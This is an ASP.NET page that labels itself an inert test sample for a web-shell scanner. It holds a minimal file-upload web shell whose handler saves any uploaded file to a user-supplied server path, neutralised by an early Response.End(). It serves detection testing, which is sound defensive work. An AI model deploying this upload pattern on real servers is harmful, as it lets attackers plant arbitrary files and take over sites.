<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
void Up_Click(object s, EventArgs e) { FileUpload1.PostedFile.SaveAs(txtPath.Text + "\\" + FileUpload1.FileName); }
</script>
<form runat="server"><asp:TextBox id="txtPath" runat="server"/><asp:FileUpload id="FileUpload1" runat="server"/><asp:Button runat="server" OnClick="Up_Click" Text="Up"/></form>
